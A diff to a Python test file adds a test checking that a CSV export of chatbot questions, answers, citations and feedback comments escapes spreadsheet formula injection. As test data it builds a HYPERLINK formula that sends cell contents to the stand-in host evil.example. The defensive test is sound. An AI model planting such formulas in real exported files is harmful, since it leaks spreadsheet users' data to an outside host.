@@ -110,3 +110,32 @@ def test_a_bad_since_is_refused_with_a_reason(capsys: pytest.CaptureFixture[str]
     with pytest.raises(SystemExit):
         main(["--table", TABLE, "--since", "last week"])
     assert "not an ISO date" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
+    # Given a 👎 answer whose user-written text (question, comment, a file name) starts
+    # with a character a spreadsheet reads as the start of a formula
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    message = Message(
+        message_id="01J00000000000000000000011",
+        question=formula,
+        answer=formula,
+        citations=[
+            Citation(document_id="d", document_name=formula, page=1, excerpt="e", score=0.5)
+        ],
+        usage=Usage(),
+        model="offline",
+        created_at=T0,
+        feedback=Feedback(rating=FeedbackRating.DOWN, comment=formula, updated_at=T0),
+    )
+
+    # When exported
+    out = io.StringIO()
+    write_csv([message], out)
+
+    # Then no cell starts with it: each is prefixed with an apostrophe, the text kept
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    for column in ("question", "answer", "citations", "comment"):
+        assert row[column].startswith("'"), (column, row[column])
+        assert row[column][1:].startswith(start)
